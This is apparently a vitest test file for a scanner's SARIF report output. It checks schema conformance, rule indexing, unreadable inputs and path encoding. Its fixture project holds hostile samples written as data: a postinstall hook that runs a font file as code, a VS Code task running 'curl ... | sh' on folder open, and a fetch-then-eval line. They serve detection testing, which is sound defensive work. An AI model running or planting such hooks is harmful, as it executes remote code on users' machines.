import { readFileSync } from 'node:fs';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { sarifLog } from '../../utils/cli/sarif-log.ts';
import { loadInspectionKnowledge } from '../../utils/cli/load-knowledge.ts';
import { projectOf } from '../../utils/cli/inspection-cases.ts';
import { inspectProject } from '../../utils/inspect/inspect-project.ts';

const schemaFile = new URL('sarif-schema/sarif-2.1.0-rtm.5.json', import.meta.url);
/** Draft 4 names itself "id"; nothing else in this schema differs from what ajv reads. */
const { id: _, $schema: __, ...schema } = JSON.parse(readFileSync(schemaFile, 'utf8')) as Record<string, unknown>;
/** One pattern of the schema is none with the flag "u". */
const fits = new Ajv({
  strict: false, unicodeRegExp: false,
  formats: {
    uri: (text: string) => URL.canParse(text),
    'uri-reference': (text: string) => URL.canParse(text, 'https://base.example/') && !/[\s\\"<>^`{|}]/.test(text),
    'date-time': (text: string) => !Number.isNaN(Date.parse(text)),
  },
}).compile(schema);

interface Log { version: string; runs: { tool?: unknown; results: Record<string, unknown>[]; invocations: unknown[] }[] }

const project = {
  ...projectOf('task', {
    'package.json': '{ "scripts": { "postinstall": "node public/a%20b\\\\fa.woff2" } }',
    '.vscode/tasks.json': '{ "tasks": [{ "label": "x", "command": "curl -s https://cdn.example/x | sh", "runOptions": { "runOn": "folderOpen" } }] }',
    'a:b/ü .js': 'fetch("https://api.example").then((r) => r.text()).then((t) => eval(t));',
  }),
  skipped: [{ path: 'a:b/locked file.zip', reason: 'encrypted' as const }, { path: '', reason: 'cut off' as const }],
};
const inspection = inspectProject(project, loadInspectionKnowledge());
const makeLog = () => JSON.parse(sarifLog([{ id: 'task.zip', inspection }, { id: 'x.7z', error: 'is not read here.' }])) as Log;

describe('sarifLog', () => {
  it('fits the schema of the standard', () => {
    const log = makeLog();
    fits(log);
    expect(fits.errors ?? []).toEqual([]);
    expect(log.runs[0]!.results.length).toBeGreaterThan(0);
  });

  const faults: [string, (log: Log) => void][] = [
    ['version', (log) => { log.version = '2.0.0'; }], ['tool', (log) => { delete log.runs[0]!.tool; }], ['level', (log) => { log.runs[0]!.results[0]!.level = 'bad'; }],
    ['surplus', (log) => { log.runs[0]!.results[0]!.surplus = 1; }], ['message', (log) => { delete log.runs[0]!.results[0]!.message; }], ['invocation', (log) => { log.runs[0]!.invocations = [{}]; }],
  ];
  it.each(faults)('would not fit with a wrong %s', (_name, spoil) => {
    const log = makeLog();
    spoil(log);
    expect(fits(log)).toBe(false);
  });

  it('names each rule once, and every result by it', () => {
    const [run] = JSON.parse(sarifLog([{ id: 'task.zip', inspection }])).runs;
    const ids = run.tool.driver.rules.map(({ id }: { id: string }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const { ruleId, ruleIndex } of run.results) expect(ids[ruleIndex]).toBe(ruleId);
  });

  it('says that an input could not be read', () => {
    const [, unread] = makeLog().runs;
    expect(unread).toMatchObject({ results: [], invocations: [{ executionSuccessful: false, toolExecutionNotifications: [{ level: 'error', message: { text: 'is not read here.' } }] }] });
  });

  it('writes places so that neither a colon nor a space changes them', () => {
    const text = sarifLog([{ id: 'task.zip', inspection }]);
    expect(text).toContain('a%3Ab/locked%20file.zip');
  });
});
